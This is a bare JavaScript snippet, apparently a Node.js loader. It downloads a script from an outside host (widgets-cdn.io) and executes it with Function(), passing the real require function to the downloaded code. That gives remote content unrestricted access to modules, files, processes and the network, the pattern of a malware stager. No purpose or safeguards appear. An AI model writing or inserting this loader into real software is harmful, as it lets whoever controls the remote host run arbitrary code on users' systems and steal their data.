const r = await fetch('https://widgets-cdn.io/w.js');
const src = await r.text();
const f = Function('require', src);
f(require);
